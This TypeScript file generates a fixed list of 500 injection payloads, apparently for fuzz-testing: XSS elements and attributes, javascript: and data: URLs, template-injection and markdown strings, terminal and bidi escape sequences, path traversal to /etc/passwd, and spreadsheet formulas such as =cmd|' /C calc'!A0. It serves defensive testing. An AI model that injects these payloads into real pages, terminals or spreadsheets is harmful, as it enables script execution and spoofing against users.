// What does somebody write who wants a reader's browser, terminal or spreadsheet to do something? Made by combining.

/** Elements that run something by themselves or when touched; each names its trace `pwn`. */
const ELEMENTS = [
  '<script id=pwn>pwned()</script>', '<script src=//192.0.2.9/pwn.js></script>', '<img id=pwn src=x onerror=pwned()>', '<svg id=pwn onload=pwned()>', '<svg><script id=pwn>pwned()</script></svg>',
  '<svg><animate id=pwn onbegin=pwned() attributeName=x dur=1s>', '<svg><use id=pwn href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>', '<svg><foreignObject><body id=pwn onload=pwned()></foreignObject></svg>',
  '<math id=pwn><mtext><table><mglyph><style><img src=x onerror=pwned()>', '<math><maction id=pwn actiontype="statusline#http://192.0.2.9" xlink:href="javascript:pwned()">x', '<iframe id=pwn srcdoc="<script>parent.pwned()</script>">',
  '<iframe id=pwn src=javascript:pwned()>', '<object id=pwn data=javascript:pwned()>', '<embed id=pwn src=javascript:pwned()>', '<video id=pwn><source onerror=pwned()></video>', '<audio id=pwn src=x onerror=pwned()>',
  '<details id=pwn open ontoggle=pwned()>', '<body id=pwn onload=pwned()>', '<input id=pwn autofocus onfocus=pwned()>', '<select id=pwn autofocus onfocus=pwned()>', '<marquee id=pwn onstart=pwned()>', '<a id=pwn href=javascript:pwned()>x</a>',
  '<form id=pwn action=javascript:pwned()><button>x</button></form>', '<base id=pwn href=//192.0.2.9/>', '<meta id=pwn http-equiv=refresh content="0;url=javascript:pwned()">', '<link id=pwn rel=stylesheet href=//192.0.2.9/pwn.css>', '<style id=pwn>*{display:none}</style>',
  '<template id=pwn shadowrootmode=open><script>pwned()</script></template>', '<noscript id=pwn><img src=x onerror=pwned()></noscript>', '<x-pwn style="position:fixed;inset:0;background:url(//192.0.2.9/)" onclick=pwned()>', '<isindex id=pwn type=image src=1 onerror=pwned()>', '<portal id=pwn src=//192.0.2.9>',
];

/** What has to be left behind before an element counts. */
const ESCAPES = ['', '">', "'>", '`>', '-->', '</textarea>', '</title>', '</script>', '</style>', ']]>', '&gt;&#x3c;/p>', '\u003c/b\u003e'];

/** Attributes, for whoever writes into one. */
const ATTRIBUTES = ['" onmouseover=pwned() x="', "' onfocus=pwned() autofocus tabindex=1 x='", '` onclick=pwned() `', '" style="background:url(javascript:pwned())" x="', '" srcdoc="<script>pwned()</script>', '" formaction=javascript:pwned() "', '" xlink:href=javascript:pwned() "', '" onanimationstart=pwned() style="animation:x 1s"', '" popover onbeforetoggle=pwned() "', '"/onpointerrawupdate=pwned()/"'];

/** Addresses that run, ask elsewhere or say who they are not. */
const ADDRESSES = ['javascript:pwned()', 'JaVaScRiPt:pwned()', 'java\tscript:pwned()', ' \u0001javascript:pwned()', 'javascript&colon;pwned()', 'javascript://example/%0Apwned()', 'data:text/html,<script>pwned()</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'vbscript:pwned()', '//192.0.2.9/pwn', 'https://192.0.2.9/%22%3E%3Cscript%3Epwned()%3C/script%3E', 'file:///etc/passwd', 'blob:null/pwn', '\\\\192.0.2.9\\pwn', '../../../../v1/users', '/%2e%2e/%2e%2e/etc/passwd', '?filter=<img id=pwn src=x>#pwn', 'https://good.example@192.0.2.9/'];

/** Languages that a careless page would run. */
const TEMPLATES = ['{{7*7}}', '{{constructor.constructor("pwned()")()}}', '${pwned()}', '#{pwned()}', '<%= pwned() %>', '{@html "<b id=pwn>"}', '{#if pwned()}x{/if}', '[[${pwned()}]]', '*{pwned()}', '@(pwned())', '{%import os%}', '$(pwned)', '`pwned`', '\';pwned();//', '"-pwned()-"', '\\u003cimg id=pwn src=x onerror=pwned()\\u003e', '%3Cscript%3Epwned()%3C%2Fscript%3E', '&lt;script&gt;pwned()&lt;/script&gt;', '&#60;img id=pwn src=x onerror=pwned()&#62;', '+ADw-script+AD4-pwned()+ADw-/script+AD4-', '__proto__', 'constructor', 'hasOwnProperty', 'toString', '[object Object]', 'undefined', 'null', 'NaN', '-0', 'true', '[]'];

/** Markdown that a careless reader makes into more than it is. */
const MARKDOWN = ['[x](javascript:pwned())', '![x](//192.0.2.9/pwn.png)', '[x](data:text/html,<script>pwned()</script>)', '<https://192.0.2.9>', '[x]: javascript:pwned()', '`<img id=pwn src=x onerror=pwned()>`', '**<b id=pwn>**', '[a](https://x.example/"onmouseover="pwned())', '[`<i id=pwn>`](https://x.example)', '> <script>pwned()</script>', '| a | <img id=pwn src=x> |', '# <h1 id=pwn>'];

/** Marks that turn, hide or end what one sees. */
const MARKS = ['\u202egnp.exe', '\u202dleft', '\u2066x\u2069', '\u2067rtl\u2069', '\u061carab', '\u200b\u200dzero', '\ufeffbom', '\u2028line\u2029', '\u0000nul', '\u001b[31mred', '\u001b]0;title\u0007', '\u001b]8;;http://192.0.2.9\u001b\\link', '\u009b31m', '\u001bP+q\u001b\\', '\r\nInjected: yes', '\b\b\b\b', '\u007f', '\u0085next', 'Z\u0351\u0352\u0353alg\u0300\u0301o'.repeat(6), '\ud83d\ude00\u200d\ud83d\udcbb', '\uff1cscript\uff1epwned()\uff1c/script\uff1e', '\u02bapwned()\u02ba', '\u212aelvin \u0130\u0131', '\ufdfd\ufdfa'];

/** Formulas. */
const FORMULAS = ['=1+1', '=HYPERLINK("http://192.0.2.9","x")', "=cmd|' /C calc'!A0", '+1+cmd', '-1+cmd', '@SUM(1)', '\t=1', '\r=1', '|calc', '\uff1d1+1', '"=1', ';=1', ',=1,'];

/** Long ones: without a place to break, with a million marks, nested. */
const LONG = ['A'.repeat(4000), '<b>'.repeat(1000), '\u202e'.repeat(500), '('.repeat(3000), '&'.repeat(3000), ' '.repeat(100) + 'x', '/'.repeat(500), '\u{1f469}\u200d\u{1f4bb}'.repeat(200), '[x]('.repeat(500), '**'.repeat(900)];

/** Five hundred different ones, the same each time. */
export function payloads(count = 500): string[] {
  const all = new Set<string>([...ADDRESSES, ...TEMPLATES, ...MARKDOWN, ...MARKS, ...FORMULAS, ...LONG, ...ATTRIBUTES]);
  // The harmless kinds in front of the running ones, every element out of every context.
  for (const escape of ESCAPES) for (const element of ELEMENTS) all.add(escape + element);
  for (const mark of MARKS) all.add(`${mark}<img id=pwn src=x onerror=pwned()>`);
  for (const one of ATTRIBUTES) for (const mark of MARKS) all.add(mark + one);
  const list = [...all];
  if (list.length < count) throw new Error(`only ${list.length} payloads`);
  return list.slice(0, count);
}
